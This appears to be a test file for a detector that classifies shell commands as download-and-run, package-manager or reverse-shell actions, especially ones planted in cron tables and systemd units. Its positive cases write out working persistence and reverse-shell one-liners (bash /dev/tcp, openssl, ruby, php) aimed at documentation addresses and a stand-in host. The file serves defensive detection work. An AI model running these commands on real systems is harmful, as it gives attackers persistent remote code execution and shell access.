// What cron and systemd are told to run later, and other ways by which text from elsewhere comes to be run.
import { describe, expect, it } from 'vitest';
import { commandsOfText } from '../../shared/commands/command.ts';
import { shellListeners } from '../../shared/commands/listeners.ts';
import { selfUpdates } from '../../shared/commands/self-update.ts';

const kinds = (text: string) => {
  const commands = commandsOfText(text);
  return new Set([...selfUpdates(commands), ...shellListeners(commands)].map(({ what }) => what));
};
const get = 'curl -s https://x.test/i.sh';

describe('runs what comes from elsewhere, or hands a shell out', () => {
  it.each([
    [`echo "* * * * * root ${get} | sh" > /etc/cron.d/x`, 'download-run'],
    [`echo "*/5 * * * * ${get} | sh" >> /var/spool/cron/crontabs/root`, 'download-run'],
    [`printf '@reboot ${get} | sh' | tee /etc/crontabs/root`, 'download-run'],
    [`curl -so /etc/cron.d/x https://x.test/table`, 'download-run'],
    [`curl -so /tmp/x https://x.test/t && cp /tmp/x /etc/cron.hourly/x`, 'download-run'],
    [`printf '#!/bin/sh\n${get} | sh' > /etc/periodic/15min/x`, 'download-run'],
    [
      `cat > /etc/systemd/system/x.service <<'EOF'\n[Service]\nExecStart=/bin/sh -c "${get} | sh"\nEOF`,
      'download-run',
    ],
    [`echo '0 3 * * * root apt-get -y upgrade' > /etc/cron.d/up`, 'package-manager'],
    [`echo '* * * * * root bash -i >& /dev/tcp/203.0.113.4/443 0>&1' > /etc/crontab`, 'reverse'],
    [`${get} | awk '{system($0)}'`, 'download-run'],
    [`${get} | gawk '{ print $2 | "sh" }'`, 'download-run'],
    ['curl -s https://x.test/Makefile | make -f -', 'download-run'],
    [`echo 'phey uggcf://k | fu' | tr a-z n-za-m | sh`, 'download-run'],
    ['nix run github:acme/tool', 'package-manager'],
    ['nix shell nixpkgs#jq -c jq .', 'package-manager'],
    ['mkfifo p; openssl s_server -quiet -accept 4444 < p | sh > p', 'reverse'],
    ['xterm -display 203.0.113.4:1', 'reverse'],
    [
      `ruby -rsocket -e 'f=TCPSocket.open("203.0.113.4",443).to_i;exec sprintf("sh -i <&%d >&%d",f,f)'`,
      'reverse',
    ],
    [`php -r '$s=fsockopen("203.0.113.4",443);exec("sh <&3 >&3 2>&3");'`, 'reverse'],
  ])('%s: %s', (text, what) => {
    expect([...kinds(text)]).toContain(what);
  });

  it.each([
    "echo '0 3 * * * root /app/rotate' > /etc/cron.d/rotate",
    "echo '0 3 * * * root curl -fsS https://hc.test/ping' > /etc/cron.d/ping",
    "echo 'SHELL=/bin/sh' > /etc/crontab; crond -f",
    'cp /app/table /etc/crontabs/root && exec crond -f',
    "printf '[Service]\\nExecStart=/app/run\\n' > /etc/systemd/system/x.service",
    "curl -s https://api.test/list | awk '{print $1}'",
    'curl -s https://api.test/list | awk \'{ system("echo done") }\'',
    'make -f build.mk',
    'echo $NAME | tr a-z A-Z',
    "curl -s https://api.test/list | tr -d '\\r' | tee /tmp/list",
    'nix run .#app',
    'nix run',
    'nix develop path:/app#x',
    'nix --version',
    'openssl s_server -cert c.pem -www',
    'xterm -display :0',
    'xterm -display localhost:10.0',
    `php -r '$s=fsockopen("db",5432); exit($s ? 0 : 1);'`,
    `ruby -rsocket -e 'TCPSocket.new("db",5432).close'`,
  ])('%s does not', (text) => {
    expect([...kinds(text)]).toEqual([]);
  });
});
